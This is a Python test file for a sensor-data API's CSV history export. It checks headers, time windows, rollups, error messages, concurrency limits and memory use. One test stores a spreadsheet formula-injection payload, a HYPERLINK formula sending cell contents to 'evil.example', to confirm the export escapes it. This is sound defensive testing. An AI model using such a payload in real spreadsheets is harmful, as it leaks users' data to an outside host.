import csv
import io
import tracemalloc
from contextlib import ExitStack
from dataclasses import replace
from datetime import timedelta

import httpx
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from api.climate.spreadsheet import Sheet, _cell
from influx import points
from influx.points import Point
from influx.schema import ENVIRONMENT, GAS, JOURNAL
from influx.windows import Window
from tests.api.gas.test_messages import message
from tests.api.home import NOW, Home, reading, serving
from tests.api.long_history import long_history
from tests.daemon import until


def rows(answer: httpx.Response) -> list[list[str]]:
    assert answer.status_code == 200, answer.text
    return list(csv.reader(io.StringIO(answer.text)))


def get(client: httpx.Client, **asked: str) -> list[list[str]]:
    return rows(client.get("/history.csv", params=asked))


def test_gas_comes_as_it_was_read(client: httpx.Client) -> None:
    client.post("/receive-json", json=message())
    answer = client.get("/history.csv", params={"measurement": "gas", "field": "concentration", "gas": "CO"})
    assert answer.headers["content-type"] == "text/csv; charset=utf-8; header=present"
    assert answer.headers["content-disposition"] == 'attachment; filename="gas-concentration-2026-05-28.csv"'
    assert rows(answer) == [
        ["time", "channel", "gas", "location", "node", "sensor", "concentration"],
        ["2026-05-28T13:59:00Z", "1", "CO", "hutch", "handheld 1", "handheld 1", "1280"],
        ["2026-05-28T13:59:00Z", "2", "CO", "hutch", "handheld 1", "handheld 1", "726"],
        ["2026-05-28T13:59:00Z", "3", "CO", "hutch", "handheld 1", "handheld 1", "3856"],
    ]


def test_without_a_field_all_of_them_come(home: Home, client: httpx.Client) -> None:
    home.store(reading(NOW - timedelta(hours=2), 20.25, humidity=50), reading(NOW - timedelta(hours=1), -1.5))
    header, *found = get(client, measurement="environment", last="3h")
    assert header == ["time", *ENVIRONMENT.tag_names, *ENVIRONMENT.field_names]
    cells = [dict(zip(header, row, strict=True)) for row in found]
    assert [(cell["temperature"], cell["humidity"]) for cell in cells] == [("20.25", "50"), ("-1.5", "")]


def test_only_the_window_asked_for_comes_and_the_last_day_by_default(
    home: Home, client: httpx.Client
) -> None:
    home.store(*(reading(NOW - timedelta(hours=hours), hours) for hours in (1, 23, 25, 30)))
    asked = {"measurement": "environment", "field": "temperature"}
    assert [row[-1] for row in get(client, **asked)[1:]] == ["23", "1"]
    window = {"start": "2026-05-27T12:00:00Z", "stop": "2026-05-27T14:00:00Z"}
    assert [row[-1] for row in get(client, **asked, **window)[1:]] == ["25"]


def test_before_readings_are_kept_their_rollups_come(home: Home, client: httpx.Client) -> None:
    old = NOW - timedelta(days=20)
    home.clock.moment = old + timedelta(hours=1)
    home.store(*(reading(old + timedelta(minutes=n), 20 + n) for n in range(3)))
    home.clock.moment = NOW
    home.store(reading(NOW - timedelta(minutes=1), 25))
    header, *found = get(client, measurement="environment", field="temperature", last="21d")
    assert header[-4:] == ["temperature", "temperature_min", "temperature_max", "temperature_count"]
    assert [row[-4:] for row in found] == [["21", "20", "22", "3"], ["25", "", "", ""]]


def test_a_text_that_a_spreadsheet_would_run_is_none(home: Home, client: httpx.Client) -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1)'
    tags = {"person": "@baby", "entry_type": "food"}
    home.store(
        points.make(
            JOURNAL, tags, {"amount": 1.0, "name": hostile, "entry_id": "1"}, NOW - timedelta(hours=1)
        )
    )
    header, row = get(client, measurement="journal")
    cells = dict(zip(header, row, strict=True))
    assert cells["name"] == f"'{hostile}"
    assert cells["person"] == "'@baby"


@settings(max_examples=50)
@given(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), min_size=1))
def test_no_text_begins_as_a_formula_does(text: str) -> None:
    assert not _cell(text).startswith(("=", "+", "-", "@", "\t", "\r"))
    assert _cell(text).removeprefix("'").endswith(text.removeprefix("'"))


@pytest.mark.parametrize(
    ("asked", "status", "words"),
    [
        ({"measurement": "weather"}, 404, "no measurement 'weather'"),
        ({"measurement": "gas", "field": "smell"}, 404, "smell"),
        ({"measurement": "gas", "mood": "good"}, 422, "no tag of gas"),
        ({"measurement": "gas", "last": "soon"}, 422, "no length of time"),
        ({}, 422, "measurement is missing"),
    ],
)
def test_what_cannot_be_asked_gets_a_sentence(
    empty_client: httpx.Client, asked: dict[str, str], status: int, words: str
) -> None:
    answer = empty_client.get("/history.csv", params=asked)
    assert answer.status_code == status
    assert words in answer.json()["detail"]


def test_a_store_that_is_away_is_said(cut_off: tuple[Home, httpx.Client]) -> None:
    _, client = cut_off
    for _ in range(6):  # more often than exports may be under way
        answer = client.get("/history.csv", params={"measurement": "gas"})
        assert answer.status_code == 503
        assert "database" in answer.json()["detail"]


def test_four_exports_are_made_at_once_and_who_leaves_makes_room(home: Home) -> None:
    home.store(reading(NOW - timedelta(hours=1), 20))
    home.context = replace(home.context, store=long_history(home))
    address = "/history.csv?measurement=environment"
    with serving(home) as client:
        with ExitStack() as readers:
            answers = [readers.enter_context(client.stream("GET", address)) for _ in range(4)]
            assert {answer.status_code for answer in answers} == {200}
            refused = client.get(address)
            assert (refused.status_code, "retry-after" in refused.headers) == (503, True)
        until("there is room", lambda: has_room(client, address))


def has_room(client: httpx.Client, address: str) -> bool:
    with client.stream("GET", address) as answer:
        return answer.status_code == 200


def many(count: int) -> list[Point]:
    tags = {"node": "n", "sensor": "n", "gas": "CO", "channel": "0", "location": "hutch"}
    return [
        points.make(GAS, tags, {"concentration": float(n % 500)}, NOW - timedelta(seconds=n + 1))
        for n in range(count)
    ]


def test_memory_does_not_grow_with_the_rows(home: Home) -> None:
    home.store(*many(60_000))
    context = home.context
    sheet = Sheet(GAS, "concentration", Window.last(timedelta(days=2), NOW), {})
    lengths = []
    tracemalloc.start()
    try:
        for chunk in sheet.chunks(context.store, context.horizon):
            lengths.append(chunk.count("\n"))
            if len(lengths) == 3:
                tracemalloc.reset_peak()
                early = tracemalloc.get_traced_memory()[0]
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert sum(lengths) == 60_001
    assert peak - early < 16 * 1024 * 1024
